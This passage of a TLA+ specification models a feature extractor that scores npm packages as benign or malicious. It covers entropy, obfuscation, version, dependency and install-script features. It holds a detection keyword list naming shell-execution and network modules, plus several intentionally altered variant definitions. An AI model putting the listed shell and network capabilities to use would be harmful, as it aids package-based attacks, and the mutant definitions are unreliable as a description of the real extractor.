        !.minified_files = @ + (IF minified THEN 1 ELSE 0),
        !.total_base64_count = @ + security_features.base64_pattern_count,
        !.total_eval_count = @ + security_features.eval_usage_count]

\* the body of the loop over the files for a script file
ScanScript(acc, minified, entropy, security_features, pii_ast_features) ==
    [acc EXCEPT
        !.features = AddCounts(AddCounts(@, security_features), pii_ast_features),
        !.entropies = Append(@, entropy),
        !.total_files_analyzed = @ + 1,
        !.total_js_files = @ + 1,
        !.minified_files = @ + (IF minified THEN 1 ELSE 0),
        !.total_base64_count = @ + security_features.base64_pattern_count,
        !.total_eval_count = @ + security_features.eval_usage_count]

\* ScanContent without the test of the length of the content
ScanContentAnyLength(acc, file, content, TREE_SITTER_AVAILABLE) ==
    IF content = "" THEN acc
    ELSE IF IsScriptFile(BaseName(file.path))
    THEN ScanScript(acc, IsMinified(content), Entropies[content],
                    SecurityPatterns[content],
                    extract_pii_patterns_ast(content, file.tree, TREE_SITTER_AVAILABLE))
    ELSE ScanOther(acc, IsMinified(content), Entropies[content])

\* the body of the loop over the files for one file with the given content
ScanContent(acc, file, content, TREE_SITTER_AVAILABLE) ==
    IF content = "" \/ Len(content) <= MinContentLen THEN acc
    ELSE IF IsScriptFile(BaseName(file.path))
    THEN ScanScript(acc, IsMinified(content), Entropies[content],
                    SecurityPatterns[content],
                    extract_pii_patterns_ast(content, file.tree, TREE_SITTER_AVAILABLE))
    ELSE ScanOther(acc, IsMinified(content), Entropies[content])

\* the body of the loop over the files for one file
ScanFile(acc, file, TREE_SITTER_AVAILABLE) ==
    ScanContent(acc, file, read_file(file), TREE_SITTER_AVAILABLE)

\* the loop of extract_advanced_features over the files, in os.walk order
RECURSIVE ScanFiles(_, _, _, _)
ScanFiles(acc, files, k, TREE_SITTER_AVAILABLE) ==
    IF k > Len(files) THEN acc
    ELSE ScanFiles(ScanFile(acc, files[k], TREE_SITTER_AVAILABLE), files, k + 1,
                   TREE_SITTER_AVAILABLE)

RECURSIVE SeqSum(_, _)
SeqSum(xs, k) == IF k > Len(xs) THEN 0 ELSE xs[k] + SeqSum(xs, k + 1)

RECURSIVE SeqMax(_, _)
SeqMax(xs, k) == IF k = Len(xs) THEN xs[k] ELSE Max(xs[k], SeqMax(xs, k + 1))

\* the significant bits of a float: every entropy, below 8 bits per symbol,
\* is a float, and a sum of entropies is rounded once it reaches 8
FloatBits == FracBits + 3

\* the float nearest to v >= 0, ties to even
FloatRound(v) ==
    IF v < Pow2(FloatBits) THEN v
    ELSE LET unit == Pow2(Log2Floor(v) - FloatBits + 1)
             q == v \div unit
             r == v % unit
         IN  IF 2 * r > unit \/ (2 * r = unit /\ q % 2 = 1)
             THEN (q + 1) * unit ELSE q * unit

\* sum(xs) of floats: from the left, each addition rounded
RECURSIVE FloatSum(_, _, _)
FloatSum(xs, k, total) ==
    IF k > Len(xs) THEN total
    ELSE FloatSum(xs, k + 1, FloatRound(total + xs[k]))

\* EntropyStats with max(entropies) taken as the entropy of the last file
EntropyStatsLast(features, entropies) ==
    IF entropies = <<>> THEN features
    ELSE LET avg == FloatSum(entropies, 1, 0) \div Len(entropies)
             sq == [k \in 1..Len(entropies) |->
                        FloatRound((entropies[k] - avg) * (entropies[k] - avg))]
         IN  [features EXCEPT
                 !.max_entropy = entropies[Len(entropies)],
                 !.avg_entropy = avg,
                 !.entropy_variance =
                     IF Len(entropies) > 1
                     THEN (FloatSum(sq, 1, 0) \div Len(entropies)) \div One
                     ELSE @]

\* the entropy statistics of extract_advanced_features
EntropyStats(features, entropies) ==
    IF entropies = <<>> THEN features
    ELSE LET avg == FloatSum(entropies, 1, 0) \div Len(entropies)
             sq == [k \in 1..Len(entropies) |->
                        FloatRound((entropies[k] - avg) * (entropies[k] - avg))]
         IN  [features EXCEPT
                 !.max_entropy = SeqMax(entropies, 1),
                 !.avg_entropy = avg,
                 !.entropy_variance =
                     IF Len(entropies) > 1
                     THEN (FloatSum(sq, 1, 0) \div Len(entropies)) \div One
                     ELSE @]

\* ObfuscationScore without the min(..., 1.0)
ObfuscationScoreUnclamped(minified, base64, eval, total) ==
    Frac(4 * minified + 3 * base64 + 3 * eval, total)

\* min((minified_ratio * 0.4 + base64_density * 0.3 + eval_density * 0.3) * 10, 1.0)
\* for ratios over the common denominator total (1 when there is no script file)
ObfuscationScore(minified, base64, eval, total) ==
    FracMin(Frac(4 * minified + 3 * base64 + 3 * eval, total), <<1, 1>>)

\* the statistics, ratios and score extract_advanced_features computes after
\* the loop over the files
AdvancedStats(acc) ==
    [EntropyStats(acc.features, acc.entropies) EXCEPT
        !.minified_ratio =
            IF acc.total_js_files > 0
            THEN Frac(acc.minified_files, acc.total_js_files) ELSE @,
        !.base64_density =
            IF acc.total_js_files > 0
            THEN Frac(acc.total_base64_count, acc.total_js_files) ELSE @,
        !.eval_density =
            IF acc.total_js_files > 0
            THEN Frac(acc.total_eval_count, acc.total_js_files) ELSE @,
        !.obfuscation_score =
            IF acc.total_js_files > 0
            THEN ObfuscationScore(acc.minified_files, acc.total_base64_count,
                                  acc.total_eval_count, acc.total_js_files)
            ELSE ObfuscationScore(0, 0, 0, 1)]

\* extract_advanced_features
extract_advanced_features(package, TREE_SITTER_AVAILABLE) ==
    AdvancedStats(ScanFiles(ScanStart, package.files, 1, TREE_SITTER_AVAILABLE))

(***************************************************************************)
(* Version analysis.  Version() of the packaging library is modelled for   *)
(* version strings  [v]N(.N)*[[-_.]tag[-_.][N]]  with a pre-release tag;    *)
(* every other string is an InvalidVersion.                                *)
(***************************************************************************)

RECURSIVE NatOf(_)
NatOf(digits) ==
    IF digits = "" THEN 0
    ELSE LET last == CharAt(digits, Len(digits))
             value == CHOOSE v \in 0..9 : CharAt("0123456789", v + 1) = last
         IN  10 * NatOf(SubSeq(digits, 1, Len(digits) - 1)) + value

\* the release segment N(.N)* from position i: the numbers and the position
\* after it (0 when there is no number at i)
RECURSIVE ReleaseFrom(_, _)
ReleaseFrom(s, i) ==
    LET run == RunLen(s, i, DigitChars)
        n == NatOf(SubSeq(s, i, i + run - 1))
        more == CharAt(s, i + run) = "." /\ RunLen(s, i + run + 1, DigitChars) > 0
        rest == ReleaseFrom(s, i + run + 1)
    IN  IF run = 0 THEN [parts |-> <<>>, next |-> 0]
        ELSE IF more THEN [parts |-> <<n>> \o rest.parts, next |-> rest.next]
        ELSE [parts |-> <<n>>, next |-> i + run]

PreTags == <<"alpha", "a", "beta", "b", "preview", "pre", "c", "rc">>

VersionSeparators == {"-", "_", "."}

\* the position after a pre-release segment at position i, 0 when none
PreEnd(s, i) ==
    LET j == IF i <= Len(s) /\ CharAt(s, i) \in VersionSeparators THEN i + 1 ELSE i
        tags == {k \in 1..Len(PreTags) : StartsAt(s, PreTags[k], j)}
        tag == PreTags[CHOOSE k \in tags : \A m \in tags : k <= m]
        l == j + Len(tag)
        n == IF l <= Len(s) /\ CharAt(s, l) \in VersionSeparators THEN l + 1 ELSE l
    IN  IF tags = {} THEN 0 ELSE n + RunLen(s, n, DigitChars)

\* the k-th number of a release segment, 0 when it has fewer
ReleasePart(parts, k) == IF k <= Len(parts) THEN parts[k] ELSE 0

\* the Version of a string that ends at position end, with the given release
\* segment and pre-release end (0 when it has none)
ParsedVersion(end, release, pre) ==
    IF release.next = 0 \/ (IF pre > 0 THEN pre ELSE release.next) # end
    THEN [ok |-> FALSE, major |-> 0, minor |-> 0, micro |-> 0, pre |-> FALSE]
    ELSE [ok |-> TRUE, major |-> ReleasePart(release.parts, 1),
          minor |-> ReleasePart(release.parts, 2),
          micro |-> ReleasePart(release.parts, 3), pre |-> pre > 0]

\* the Version of a string whose release segment is release
VersionWithRelease(version_str, release) ==
    ParsedVersion(Len(version_str) + 1, release, PreEnd(version_str, release.next))

\* Version(version_str): ok is FALSE when it raises InvalidVersion
Version(version_str) ==
    VersionWithRelease(version_str,
        ReleaseFrom(version_str, IF StartsWith(version_str, "v") THEN 2 ELSE 1))

\* s.count(c) for a character c
CountChar(s, c) == Cardinality({i \in 1..Len(s) : CharAt(s, i) = c})

\* the features dict extract_version_analysis_features starts from
VersionDefaults ==
    [is_first_version |-> 1, has_other_versions_today |-> 0, is_rapid_update |-> 0,
     version_velocity |-> <<0, 1>>, maintenance_score |-> 0,
     time_between_updates |-> 0, update_type |-> 0]

\* the initial release pattern
InitialRelease == "1.0.0"

\* SemanticFeatures with the minor component tested before the patch
SemanticFeaturesMinorFirst(features, version_str, version) ==
    IF ~version.ok THEN features
    ELSE [features EXCEPT
             !.is_first_version =
                 IF version.major > 0 /\ StartsWith(version_str, InitialRelease)
                 THEN 1 ELSE 0,
             !.update_type =
                 IF version.pre THEN 4
                 ELSE IF version.minor > 0 THEN 2
                 ELSE IF version.micro > 0 /\ CountChar(version_str, ".") >= 2 THEN 3
                 ELSE IF version.major > 0 THEN 1
                 ELSE 0]

\* the semantic-version part of extract_version_analysis_features, for
\* version = Version(version_str)
SemanticFeatures(features, version_str, version) ==
    IF ~version.ok THEN features
    ELSE [features EXCEPT
             !.is_first_version =
                 IF version.major > 0 /\ StartsWith(version_str, InitialRelease)
                 THEN 1 ELSE 0,
             !.update_type =
                 IF version.pre THEN 4
                 ELSE IF version.micro > 0 /\ CountChar(version_str, ".") >= 2 THEN 3
                 ELSE IF version.minor > 0 THEN 2
                 ELSE IF version.major > 0 THEN 1
                 ELSE 0]

\* the try block of the semantic-version part: InvalidVersion leaves features
VersionFeatures(features, version_str) ==
    SemanticFeatures(features, version_str, Version(version_str))

\* sibling count at which is_rapid_update is set
RapidSiblings == 2

\* sibling count at which version_velocity reaches 1.0
VelocitySiblings == 10

\* SiblingFeatures without the min(..., 1.0) of version_velocity
SiblingFeaturesUnclamped(features, parent) ==
    IF ~parent.exists THEN features
    ELSE [features EXCEPT
             !.has_other_versions_today = IF parent.siblings > 0 THEN 1 ELSE 0,
             !.is_rapid_update = IF parent.siblings >= RapidSiblings THEN 1 ELSE @,
             !.version_velocity = Frac(parent.siblings, VelocitySiblings),
             !.maintenance_score = IF parent.siblings > 0 THEN 1 ELSE 0,
             !.time_between_updates = parent.siblings]

\* the sibling part of extract_version_analysis_features
SiblingFeatures(features, parent) ==
    IF ~parent.exists THEN features
    ELSE [features EXCEPT
             !.has_other_versions_today = IF parent.siblings > 0 THEN 1 ELSE 0,
             !.is_rapid_update = IF parent.siblings >= RapidSiblings THEN 1 ELSE @,
             !.version_velocity =
                 FracMin(Frac(parent.siblings, VelocitySiblings), <<1, 1>>),
             !.maintenance_score = IF parent.siblings > 0 THEN 1 ELSE 0,
             !.time_between_updates = parent.siblings]

\* package_data.get('version', '0.0.0') for a version that is a string
VersionStr(field) == IF field.kind = "missing" THEN "0.0.0" ELSE field.items

\* extract_version_analysis_features, for a version that is a string or
\* missing (Version() raises TypeError on any other)
extract_version_analysis_features(parent, package_data) ==
    SiblingFeatures(VersionFeatures(VersionDefaults, VersionStr(package_data.version)),
                    parent)

(***************************************************************************)
(* Descriptor and structure analysis.                                      *)
(***************************************************************************)

suspicious_packages ==
    {"request", "axios", "node-fetch", "fs-extra", "shelljs", "child_process",
     "exec", "spawn"}

\* the package_data of a package without a usable package.json
EmptyObject == JsonObject(Missing, Missing, Missing, Missing)

\* len(package_data.get(field, {})): the members of an object, the elements
\* of a list, the characters of a string
FieldLen(field) ==
    IF field.kind \in {"map", "list", "str"} THEN Len(field.items) ELSE 0

\* analyze_dependencies with the names under devDependencies tested as well
analyze_dependencies_with_dev(package_data) ==
    LET dependencies == package_data.dependencies.items
                            \o package_data.devDependencies.items
        suspect(dep) == \E suspicious \in suspicious_packages :
                            Contains(suspicious, Lower(dep))
    IN  [suspicious_dependencies_count |->
            Cardinality({i \in 1..Len(dependencies) : suspect(dependencies[i])}),
         total_dependencies_count |->
            FieldLen(package_data.dependencies) + FieldLen(package_data.devDependencies)]

\* analyze_dependencies, for dependencies and devDependencies that have a len
analyze_dependencies(package_data) ==
    LET dependencies == package_data.dependencies.items
        suspect(dep) == \E suspicious \in suspicious_packages :
                            Contains(suspicious, Lower(dep))
    IN  [suspicious_dependencies_count |->
            Cardinality({i \in 1..Len(dependencies) : suspect(dependencies[i])}),
         total_dependencies_count |->
            FieldLen(package_data.dependencies) + FieldLen(package_data.devDependencies)]

\* Path(file).suffix
Suffix(path) ==
    LET name == BaseName(path)
        dots == {i \in 1..Len(name) : CharAt(name, i) = "."}
        last == CHOOSE i \in dots : \A j \in dots : j <= i
    IN  IF dots = {} THEN ""
        ELSE IF last = 1 \/ last = Len(name) THEN ""
        ELSE SubSeq(name, last, Len(name))

BytesPerKb == 1024

\* analyze_file_structure
analyze_file_structure(package) ==
    LET files == package.files
        sizes == [i \in 1..Len(files) |-> files[i].size]
    IN  [js_files_in_root |->
            Cardinality({i \in 1..Len(files) :
                /\ EndsWith(files[i].path, ".js")
                /\ ~Contains("/", files[i].path)}),
         hidden_files |->
            Cardinality({i \in 1..Len(files) : StartsWith(files[i].path, ".")}),
         max_file_size_kb |->
            IF Len(files) > 0 THEN Frac(SeqMax(sizes, 1), BytesPerKb) ELSE <<0, 1>>]

\* calculate_package_size
calculate_package_size(package) ==
    SeqSum([i \in 1..Len(package.files) |-> package.files[i].size], 1)

\* _get_default_features
get_default_features ==
    [file_count |-> 0, total_size_kb |-> <<0, 1>>, has_node_modules |-> 0,
     js_file_ratio |-> <<0, 1>>, js_files_in_root |-> 0, hidden_files |-> 0,
     max_file_size_kb |-> <<0, 1>>, dir_count |-> 0,
     dependencies_count |-> 0, scripts_count |-> 0, has_preinstall |-> 0,
     has_postinstall |-> 0, has_install_script |-> 0,
     suspicious_dependencies_count |-> 0, total_dependencies_count |-> 0,
     is_first_version |-> 1, has_other_versions_today |-> 0, is_rapid_update |-> 0,
     version_velocity |-> <<0, 1>>, maintenance_score |-> 0,
     time_between_updates |-> 0, update_type |-> 0,
     fs_read_count |-> 0, fs_write_count |-> 0, fs_delete_count |-> 0,
     http_request_count |-> 0, fetch_count |-> 0, socket_count |-> 0,
     exec_count |-> 0, spawn_count |-> 0, fork_count |-> 0,
     password_access |-> 0, cookie_access |-> 0, env_variable_access |-> 0,
     max_entropy |-> 0, avg_entropy |-> 0, entropy_variance |-> 0,
     minified_files |-> 0, minified_ratio |-> <<0, 1>>,
     obfuscation_score |-> <<0, 1>>,
     base64_pattern_count |-> 0, eval_usage_count |-> 0,
     base64_density |-> <<0, 1>>, eval_density |-> <<0, 1>>,
     has_install_command |-> 0, base64_in_install_script |-> 0,
     domain_in_install_script |-> 0, network_in_install_script |-> 0,
     process_env_in_install_script |-> 0, file_ops_in_install_script |-> 0,
     shell_exec_in_install_script |-> 0,
     has_readme |-> 0]

\* the structural features of extract_basic_features (sections 1, 2 and 4)
StructuralFeatures(package) ==
    LET files == package.files
        n == Len(files)
        js == Cardinality({i \in 1..n : Lower(Suffix(files[i].path)) = ".js"})
    IN  [file_count |-> n,
         total_size_kb |-> Frac(calculate_package_size(package), BytesPerKb),
         has_node_modules |->
            IF \E i \in 1..n : Contains("node_modules", files[i].path) THEN 1 ELSE 0,
         js_file_ratio |-> Frac(js, Max(1, n)),
         has_readme |->
            IF \E i \in 1..n : Contains("readme", Lower(files[i].path)) THEN 1 ELSE 0]

\* 'name' in package_data.get('scripts', {})
HasScript(scripts, name) ==
    IF scripts.kind = "map"
    THEN \E i \in 1..Len(scripts.items) : scripts.items[i].name = name
    ELSE IF scripts.kind = "list"
    THEN \E i \in 1..Len(scripts.items) : scripts.items[i] = name
    ELSE scripts.kind = "str" /\ Contains(name, scripts.items)

\* the metadata features of extract_basic_features (section 3) for an object
MetadataFeatures(package_data) ==
    [dependencies_count |-> FieldLen(package_data.dependencies),
     scripts_count |-> FieldLen(package_data.scripts),
     has_preinstall |-> IF HasScript(package_data.scripts, "preinstall") THEN 1 ELSE 0,
     has_postinstall |-> IF HasScript(package_data.scripts, "postinstall") THEN 1 ELSE 0,
     has_install_script |-> IF HasScript(package_data.scripts, "install") THEN 1 ELSE 0]

\* len(x) raises TypeError: the field is null or a number
NoLen(field) == field.kind \notin {"missing", "map", "list", "str"}

\* whether the try block of extract_basic_features raises for the
\* descriptor: the read fails, a list has no get, len() of a field or
\* Version() of a version that is not a string raises TypeError
DescriptorRaises(file) ==
    \/ ~file.readable
    \/ file.json.kind = "list"
    \/ /\ file.json.kind = "object"
       /\ \/ NoLen(file.json.dependencies)
          \/ NoLen(file.json.scripts)
          \/ NoLen(file.json.devDependencies)
          \/ file.json.version.kind \notin {"missing", "str"}

\* whether the try block of extract_basic_features raises for the package
BasicRaises(package) ==
    /\ find_package_json(package) # 0
    /\ DescriptorRaises(package.files[find_package_json(package)])

\* package_data of extract_basic_features: the parsed descriptor, {} when
\* there is none or it is not valid JSON
PackageData(package) ==
    IF find_package_json(package) = 0 THEN EmptyObject
    ELSE IF package.files[find_package_json(package)].json.kind # "object"
    THEN EmptyObject
    ELSE package.files[find_package_json(package)].json

\* the features of the try block of extract_basic_features
BasicSections(package, parent, package_data) ==
    Merge(Merge(Merge(Merge(StructuralFeatures(package),
                            MetadataFeatures(package_data)),
                      analyze_dependencies(package_data)),
                analyze_file_structure(package)),
          extract_version_analysis_features(parent, package_data))

\* extract_basic_features
extract_basic_features(package, parent) ==
    IF BasicRaises(package) THEN get_default_features
    ELSE BasicSections(package, parent, PackageData(package))

(***************************************************************************)
(* Feature Vector Assembler.                                               *)
(***************************************************************************)

\* the three sub-records of each sample of the model, computed once
BasicFeatures == [s \in Samples |-> extract_basic_features(s.package, s.parent)]

AdvancedFeatures ==
    [s \in Samples |-> extract_advanced_features(s.package, s.TREE_SITTER_AVAILABLE)]

InstallScriptFeatures == [s \in Samples |-> extract_install_script_features(s.package)]

\* the resolution of strftime("%Y-%m-%d %H:%M:%S") in ticks of the clock
TicksPerSecond == 2

\* extract_all_features with the basic features merged last: the defaults of
\* extract_basic_features override the install-script features
extract_all_features_basic_last(sample, package_type, now1, now2) ==
    Merge(Merge(Merge(InstallScriptFeatures[sample], AdvancedFeatures[sample]),
                BasicFeatures[sample]),
          [package_type |-> package_type,
           collection_date |-> now1,
           analysis_timestamp |-> now2 \div TicksPerSecond])

\* extract_all_features with the advanced features merged first: the
\* defaults of extract_basic_features override them
extract_all_features_advanced_first(sample, package_type, now1, now2) ==
    Merge(Merge(Merge(AdvancedFeatures[sample], BasicFeatures[sample]),
                InstallScriptFeatures[sample]),
          [package_type |-> package_type,
           collection_date |-> now1,
           analysis_timestamp |-> now2 \div TicksPerSecond])

\* extract_all_features with the time of the run in one more field
extract_all_features_stamped(sample, package_type, now1, now2) ==
    Merge(Merge(Merge(BasicFeatures[sample], AdvancedFeatures[sample]),
                InstallScriptFeatures[sample]),
          [package_type |-> package_type,
           time_between_updates |-> now1,
           collection_date |-> now1,
           analysis_timestamp |-> now2 \div TicksPerSecond])

\* extract_all_features for a sample; now1 and now2 are the two readings of
\* datetime.now()
extract_all_features(sample, package_type, now1, now2) ==
    Merge(Merge(Merge(BasicFeatures[sample], AdvancedFeatures[sample]),
                InstallScriptFeatures[sample]),
          [package_type |-> package_type,
           collection_date |-> now1,
           analysis_timestamp |-> now2 \div TicksPerSecond])

(***************************************************************************)
(* State.                                                                  *)
(*                                                                         *)
(* main(): pc is the position in main, entries the rest of the listing of  *)
(* the date directory main is in (TRUE for a directory), dirs the number   *)
(* of directories of that listing, listed the number of entries and        *)
(* package_dirs the number of directories the listings of the run have     *)
(* yielded so far, combined_writer the DictWriter (none while it is None), *)
(* rows the data rows of features.csv (a bag: for each row its label and   *)
(* the header columns that got a value), outcomes what became of the       *)
(* package directories main entered the try block for (a bag), continued   *)
(* the number of them entered after one had failed, printed the messages   *)
(* about the roots and the end of the run.                                 *)
(*                                                                         *)
(* Extraction of one sample: sample is the package directory, runs the     *)
(* number of times extract_all_features has run on it, records what it     *)
(* returned.  clock is the time, tree_sitter the result of the import.     *)
(*                                                                         *)
(* A function called on its own: call is the function, its arguments and   *)
(* what it returned.                                                       *)
(***************************************************************************)

VARIABLES pc, entries, dirs, listed, package_dirs, combined_writer, rows,
          processed_count, outcomes, continued, printed, tree_sitter, clock,
          sample, runs, records, call,
          daily_log, attempts, cycles, new_versions,
          max_packages, days_ago, current_from_index, all_packages, search

\* the state of the benign collector (Dataset/collect_benign_npm.py)
datasetVars == <<daily_log, attempts, cycles, new_versions,
                 max_packages, days_ago, current_from_index, all_packages, search>>

vars == <<pc, entries, dirs, listed, package_dirs, combined_writer, rows,
          processed_count, outcomes, continued, printed, tree_sitter, clock,
          sample, runs, records, call, datasetVars>>

\* the collector is not running
DatasetIdle ==
    /\ daily_log = <<>>
    /\ attempts = EmptyBag
    /\ cycles = 0
    /\ new_versions = <<>>
    /\ max_packages = 0
    /\ days_ago = 0
    /\ current_from_index = 0
    /\ all_packages = 0
    /\ search = "idle"

mainVars == <<pc, entries, dirs, listed, package_dirs, combined_writer, rows,
              processed_count, outcomes, continued, printed, tree_sitter>>

\* the entries the listings of one run yield at most
MaxEntries == 3

\* the latest time
MaxClock == 2

\* the times datetime.now() may return at time t: t or one tick later
Now(t) == t..Min(t + 1, MaxClock)

NoWriter == [none |-> TRUE, fieldnames |-> {}]

\* the package directories main meets
CorpusPackages ==
    {[files |-> <<PjPlain>>], [files |-> <<PjCurl, CookieJs>>], [files |-> <<PjList>>]}

NoSample ==
    [package |-> [files |-> <<>>], parent |-> [exists |-> FALSE, siblings |-> 0],
     TREE_SITTER_AVAILABLE |-> FALSE]

\* no function has been called on its own
NoCall == [fn |-> "none"]

\* the outcomes of a package directory that got no row
Failures == {"extraction raised", "row rejected", "no writer"}

Init ==
    /\ pc = "benign_check"
    /\ entries = <<>>
    /\ dirs = 0
    /\ listed = 0
    /\ package_dirs = 0
    /\ combined_writer = NoWriter
    /\ rows = EmptyBag
    /\ processed_count = 0
    /\ outcomes = EmptyBag
    /\ continued = 0
    /\ printed = {}
    /\ tree_sitter \in BOOLEAN
    /\ clock = 0
    /\ sample = NoSample
    /\ runs = 0
    /\ records = <<>>
    /\ call = NoCall
    /\ DatasetIdle

(***************************************************************************)
(* main().                                                                 *)
(***************************************************************************)

\* if benign_dir.exists(): ... / if malicious_dir.exists(): ...
RootFound(root, loop) ==
    /\ pc = root
    /\ pc' = loop
    /\ printed' = printed \cup {<<loop, "processing">>}
    /\ UNCHANGED <<entries, dirs, listed, package_dirs, combined_writer, rows,
                   processed_count, outcomes, continued, tree_sitter, clock, sample,
                   runs, records, call, datasetVars>>

\* RootNotFound with a missing root made fatal: the run stops there
RootNotFoundHalts(root, loop, next) ==
    /\ pc = root
    /\ pc' = "halted"
    /\ printed' = printed \cup {<<loop, "not found">>}
    /\ UNCHANGED <<entries, dirs, listed, package_dirs, combined_writer, rows,
                   processed_count, outcomes, continued, tree_sitter, clock, sample,
                   runs, records, call, datasetVars>>

\* else: print("... directory not found")
RootNotFound(root, loop, next) ==
    /\ pc = root
    /\ pc' = next
    /\ printed' = printed \cup {<<loop, "not found">>}
    /\ UNCHANGED <<entries, dirs, listed, package_dirs, combined_writer, rows,
                   processed_count, outcomes, continued, tree_sitter, clock, sample,
                   runs, records, call, datasetVars>>

BenignFound == RootFound("benign_check", "benign")

BenignNotFound == RootNotFound("benign_check", "benign", "malicious_check")

MaliciousFound == RootFound("malicious_check", "malicious")

MaliciousNotFound == RootNotFound("malicious_check", "malicious", "end")

BoolSeqs(n) == UNION {[1..k -> BOOLEAN] : k \in 1..n}

\* for date_dir in root.iterdir(): if date_dir.is_dir(): the next date
\* directory is listed
EnterDateDir ==
    /\ pc \in {"benign", "malicious"}
    /\ entries = <<>>
    /\ listed < MaxEntries
    /\ \E listing \in BoolSeqs(MaxEntries - listed) :
          LET n == Cardinality({i \in 1..Len(listing) : listing[i]})
          IN  /\ n <= MaxSiblings + 1
              /\ entries' = listing
              /\ dirs' = n
              /\ listed' = listed + Len(listing)
              /\ package_dirs' = package_dirs + n
    /\ UNCHANGED <<pc, combined_writer, rows, processed_count, outcomes, continued,
                   printed, tree_sitter, clock, sample, runs, records, call, datasetVars>>

\* if package_dir.is_dir(): is false for the next entry
SkipEntry ==
    /\ pc \in {"benign", "malicious"}
    /\ entries # <<>>
    /\ ~Head(entries)
    /\ entries' = Tail(entries)
    /\ UNCHANGED <<pc, dirs, listed, package_dirs, combined_writer, rows,
                   processed_count, outcomes, continued, printed, tree_sitter, clock,
                   sample, runs, records, call, datasetVars>>

\* Remaining with the try block around the loop instead of in it: a failure
\* ends the listing
RemainingAborts(outcome) == IF outcome \in Failures THEN <<>> ELSE Tail(entries)

\* the entries left to the loops once the try block is left with the given
\* outcome: the except clause prints the error and the loop goes on
Remaining(outcome) == Tail(entries)

\* the try block is left with the given outcome for the package directory
Outcome(outcome) ==
    /\ entries' = Remaining(outcome)
    /\ outcomes' = outcomes (+) SetToBag({outcome})
    /\ continued' = IF BagToSet(outcomes) \cap Failures # {}
                    THEN continued + 1 ELSE continued

\* combined_writer.writerow(features): ValueError when features has a key
\* that is not a fieldname; a fieldname features lacks is written empty
WriteRow(writer, features) ==
    IF DOMAIN features \subseteq writer.fieldnames
    THEN /\ rows' = rows (+) SetToBag({[package_type |-> features.package_type,
                                        columns |-> DOMAIN features]})
         /\ processed_count' = processed_count + 1
         /\ Outcome("written")
    ELSE /\ Outcome("row rejected")
         /\ UNCHANGED <<rows, processed_count>>

\* the sample a package directory of the date directory main is in makes
SampleOf(package) ==
    [package |-> package, parent |-> [exists |-> TRUE, siblings |-> dirs - 1],
     TREE_SITTER_AVAILABLE |-> tree_sitter]

\* the benign loop writes a record: the first one creates the writer, with
\* its keys as the fieldnames
WriteBenign(features) ==
    IF combined_writer.none
    THEN /\ combined_writer' = [none |-> FALSE, fieldnames |-> DOMAIN features]
         /\ WriteRow(combined_writer', features)
    ELSE /\ combined_writer' = combined_writer
         /\ WriteRow(combined_writer, features)

\* the malicious loop writes a record: it never creates the writer
WriteMalicious(features) ==
    IF combined_writer.none
    THEN /\ Outcome("no writer")
         /\ UNCHANGED <<rows, processed_count>>
    ELSE WriteRow(combined_writer, features)

\* the try block of the benign loop for the next package directory; escapes
\* is an exception that leaves extract_all_features
ProcessBenign ==
    /\ pc = "benign"
    /\ entries # <<>>
    /\ Head(entries)
    /\ \E package \in CorpusPackages, escapes \in BOOLEAN,
          now1 \in Now(clock) :
          \E now2 \in Now(now1) :
             IF escapes
             THEN /\ Outcome("extraction raised")
                  /\ clock' = now1
                  /\ UNCHANGED <<combined_writer, rows, processed_count>>
             ELSE /\ clock' = now2
                  /\ WriteBenign(extract_all_features(SampleOf(package), "benign",
                                                      now1, now2))
    /\ UNCHANGED <<pc, dirs, listed, package_dirs, printed, tree_sitter, sample, runs,
                   records, call, datasetVars>>

\* the try block of the malicious loop for the next package directory
ProcessMalicious ==
    /\ pc = "malicious"
    /\ entries # <<>>
    /\ Head(entries)
    /\ \E package \in CorpusPackages, escapes \in BOOLEAN,
          now1 \in Now(clock) :
          \E now2 \in Now(now1) :
             IF escapes
             THEN /\ Outcome("extraction raised")
                  /\ clock' = now1
                  /\ UNCHANGED <<rows, processed_count>>
             ELSE /\ clock' = now2
                  /\ WriteMalicious(extract_all_features(SampleOf(package), "malicious",
                                                         now1, now2))
    /\ UNCHANGED <<pc, dirs, listed, package_dirs, combined_writer, printed,
                   tree_sitter, sample, runs, records, call, datasetVars>>

\* the loop over the date directories of a root ends
LeaveRoot ==
    /\ pc \in {"benign", "malicious"}
    /\ entries = <<>>
    /\ pc' = IF pc = "benign" THEN "malicious_check" ELSE "end"
    /\ UNCHANGED <<entries, dirs, listed, package_dirs, combined_writer, rows,
                   processed_count, outcomes, continued, printed, tree_sitter, clock,
                   sample, runs, records, call, datasetVars>>

\* the file is closed and the completion messages are printed
Finish ==
    /\ pc = "end"
    /\ pc' = "done"
    /\ printed' = printed \cup {<<"main", "completed">>}
    /\ UNCHANGED <<entries, dirs, listed, package_dirs, combined_writer, rows,
                   processed_count, outcomes, continued, tree_sitter, clock, sample,
                   runs, records, call, datasetVars>>

Next ==
    \/ BenignFound
    \/ BenignNotFound
    \/ MaliciousFound
    \/ MaliciousNotFound
    \/ EnterDateDir
    \/ SkipEntry
    \/ ProcessBenign
    \/ ProcessMalicious
    \/ LeaveRoot
    \/ Finish

Spec == Init /\ [][Next]_vars

(***************************************************************************)
(* extract_all_features on one sample, run twice.                          *)
(***************************************************************************)

\* the runs of extract_all_features on the sample
MaxRuns == 2

SampleInit ==
    /\ pc = "sample"
    /\ entries = <<>>
    /\ dirs = 0
    /\ listed = 0
    /\ package_dirs = 0
    /\ combined_writer = NoWriter
    /\ rows = EmptyBag
    /\ processed_count = 0
    /\ outcomes = EmptyBag
    /\ continued = 0
    /\ printed = {}
    /\ sample \in Samples
    /\ tree_sitter = sample.TREE_SITTER_AVAILABLE
    /\ clock = 0
    /\ runs = 0
    /\ records = <<>>
    /\ call = NoCall
    /\ DatasetIdle

\* extract_all_features(package_dir, "benign") on the unchanged directory
Extract ==
    /\ pc = "sample"
    /\ runs < MaxRuns
    /\ \E now1 \in Now(clock) :
          \E now2 \in Now(now1) :
             /\ records' = Append(records,
                                  extract_all_features(sample, "benign", now1, now2))
             /\ clock' = now2
    /\ runs' = runs + 1
    /\ UNCHANGED <<mainVars, sample, call, datasetVars>>

SampleNext == Extract

SampleSpec == SampleInit /\ [][SampleNext]_vars

(***************************************************************************)
(* The functions of the extractor called on their own.                     *)
(***************************************************************************)

\* the script files a scan has analyzed at most
MaxScripts == 7

\* the matches of a pattern a scan has totalled at most
MaxMatches == 2

CallInit ==
    /\ pc = "call"
    /\ entries = <<>>
    /\ dirs = 0
    /\ listed = 0
    /\ package_dirs = 0
    /\ combined_writer = NoWriter
    /\ rows = EmptyBag
    /\ processed_count = 0
    /\ outcomes = EmptyBag
    /\ continued = 0
